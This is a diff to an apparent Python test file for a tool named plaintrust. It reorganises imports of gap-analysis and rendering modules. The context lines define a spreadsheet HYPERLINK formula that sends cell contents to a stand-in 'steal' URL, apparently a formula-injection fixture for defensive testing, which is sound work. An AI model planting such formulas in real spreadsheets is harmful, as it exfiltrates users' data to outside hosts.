@@ -14,8 +14,9 @@ from openpyxl import load_workbook
 
 from helpers import TESTS, edit
 from payloads import PAYLOAD
-from plaintrust import gaps, pipeline
-from plaintrust.render.gap import RENDERERS
+from plaintrust import pipeline
+from plaintrust.internal import gaps
+from plaintrust.internal.render import RENDERERS
 
 MINI = TESTS / "fixtures" / "gap-mini"
 FORMULA = '=HYPERLINK("https://x.example/steal?"&A1,"open")'
